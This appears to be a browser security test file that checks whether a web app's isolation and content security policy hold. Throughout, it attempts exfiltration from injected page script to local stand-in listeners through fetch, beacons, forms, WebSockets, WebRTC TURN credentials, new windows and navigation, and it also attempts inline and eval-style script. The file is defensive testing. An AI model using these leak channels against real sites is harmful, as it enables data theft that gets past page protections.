// The power of another site, and of script that got into the app's page: next to none. docs/threat-model.md has the
// rest, and this journey shows that the other site would hear of it.
import { createServer } from 'node:http'
import { type AddressInfo, createServer as createListener } from 'node:net'
import { expect, test } from '../support/journey.ts'
import { hia } from '../support/releases.ts'

/** A site of another owner, which remembers its requests and lets everybody read its answers. */
async function startSite() {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.setHeader('Content-Type', 'text/html')
    response.end('<!doctype html><title>elsewhere</title>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    close() {
      server.closeAllConnections()
      return new Promise((resolve) => server.close(resolve))
    },
  }
}

test('another site can’t frame the app, read it, or keep a hand on its window', async ({ service, tablet }) => {
  const site = await startSite()
  const page = await tablet.setUp(hia)
  await page.goto(site.address)
  const read = await page.evaluate(async (app) => {
    const frame = document.createElement('iframe')
    const framed = new Promise((resolve) => frame.addEventListener('load', resolve))
    frame.src = app
    document.body.append(frame)
    await framed
    const answers = ['/', '/v1/totals', '/healthz'].map((path) =>
      fetch(`${app}${path}`).then(
        () => path,
        () => null,
      ),
    )
    return (await Promise.all(answers)).filter((path) => path !== null)
  }, service.address)
  expect(read).toEqual([])
  expect(page.frames().map((frame) => new URL(frame.url()).origin)).not.toContain(service.address)

  const opening = tablet.context().waitForEvent('page')
  await page.evaluate((app) => {
    Object.assign(globalThis, { opened: open(app) })
  }, service.address)
  const opened = await opening
  await expect(opened.getByRole('button', { name: 'Ontgrendel', exact: true })).toBeVisible()
  expect(await page.evaluate(() => (globalThis as typeof globalThis & { opened: Window }).opened.closed)).toBe(true)
  expect(await opened.evaluate(() => opener)).toBeNull()
  await site.close()
})

test('script in the page makes no markup or script of text, loads nothing and sends nothing elsewhere', async ({
  tablet,
}) => {
  const site = await startSite()
  const page = await tablet.setUp(hia)
  const done = await page.evaluate(async (elsewhere) => {
    const done: string[] = []
    const tried = async (what: string, action: () => unknown) => {
      try {
        await action()
        done.push(what)
      } catch {
        // As it should be.
      }
    }
    const loaded = (element: HTMLElement) =>
      new Promise((resolve, reject) => {
        element.addEventListener('load', resolve)
        element.addEventListener('error', reject)
        document.body.append(element)
      })
    const ran = () => 'ran' in globalThis || Promise.reject()
    await tried('markup of text', () => {
      document.createElement('p').innerHTML = '<b>x</b>'
    })
    await tried('an inline script', () => {
      const script = document.createElement('script')
      script.append('globalThis.ran = true')
      document.body.append(script)
      return ran()
    })
    await tried('a worker of text', () => new Worker(URL.createObjectURL(new Blob(['']))))
    await tried('fetch', () => fetch(`${elsewhere}/fetch`))
    await tried('a picture', () => loaded(Object.assign(new Image(), { src: `${elsewhere}/picture` })))
    await tried('a style sheet', () =>
      loaded(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${elsewhere}/style` })),
    )
    // Last: at first the test itself still has leave to do so.
    await tried('script of text', () => new Function('globalThis.ran = true')())
    navigator.sendBeacon(`${elsewhere}/beacon`)
    const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' })
    document.body.append(form)
    form.submit()
    const socket = new WebSocket(elsewhere.replace('http', 'ws'))
    await new Promise((resolve) => socket.addEventListener('error', resolve))
    return done
  }, site.address)
  expect(done).toEqual([])
  expect(site.asked).toEqual([])

  await site.close()
})

/** A listener of another owner, that counts who calls and answers every one of them as a site. */
async function startListener() {
  let calls = 0
  const server = createListener((socket) => {
    calls++
    socket.on('error', () => {})
    socket.on('data', () => socket.end('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\r\n'))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { port, calls: () => calls, close: () => void server.close() }
}

/** Ways in which script could tell another site something, in the page itself. Each throws where it is closed. */
const ways: Readonly<Record<string, (port: number) => unknown>> = {
  'a call by WebRTC': (port) => {
    const urls = `turn:127.0.0.1:${port}?transport=tcp`
    const call = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'x' }] })
    call.createDataChannel('x')
    void call.setLocalDescription()
  },
  'WebRTC of an inner document': (port) => {
    const frame = document.documentElement.appendChild(document.createElement('iframe'))
    const { RTCPeerConnection: Call } = frame.contentWindow as Window & typeof globalThis
    const urls = `turn:127.0.0.1:${port}?transport=tcp`
    const call = new Call({ iceServers: [{ urls, username: 'secret', credential: 'x' }] })
    call.createDataChannel('x')
    void call.setLocalDescription()
  },
  'a window': (port) => void open(`http://127.0.0.1:${port}/secret`),
  // Chromium asks the page first, and does not go.
  'going there': (port) => location.assign(`http://127.0.0.1:${port}/secret`),
}
test('the ways out that no header closes are taken away before other script runs', async ({ service, tablet }) => {
  const page = await tablet.setUp(hia)
  for (const [name, way] of Object.entries(ways)) {
    await test.step(name, async () => {
      const [closed, open] = [await startListener(), await startListener()]
      await page.evaluate(way, closed.port).catch(() => {})

      // The control, which also gives the first one its time: an address of the same service with the same headers, and
      // without the app's script.
      const bare = await tablet.context().newPage()
      await bare.goto(`${service.address}/healthz`)
      await bare.evaluate(way, open.port).catch(() => {})
      await expect.poll(open.calls).toBeGreaterThan(0)
      await bare.close()
      expect(closed.calls()).toBe(0)
      expect(new URL(page.url()).origin).toBe(service.address)
      for (const each of [closed, open]) each.close()
    })
  }
})

test('workers have no connection but those that the policy closes', async ({ tablet }) => {
  const page = await tablet.setUp(hia)
  // The worker that has the key files open.
  const names = await Promise.all(
    page
      .workers()
      .map((worker) =>
        worker.evaluate(() =>
          ['RTCPeerConnection', 'RTCDataChannel', 'WebTransport'].filter((name) => Reflect.get(globalThis, name)),
        ),
      ),
  )
  expect(names.length).toBeGreaterThan(0)
  expect(names.flat()).toEqual([])
})
